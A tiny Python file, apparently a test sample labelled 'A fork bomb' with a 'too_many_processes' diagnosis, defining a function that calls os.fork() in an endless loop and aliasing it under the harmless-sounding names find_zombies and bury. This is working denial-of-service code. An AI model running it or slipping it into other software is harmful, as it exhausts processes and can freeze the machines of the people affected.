"""A fork bomb."""
# diagnosis: too_many_processes

import os


def make_zombie(*_):
    while True:
        os.fork()


find_zombies = bury = make_zombie
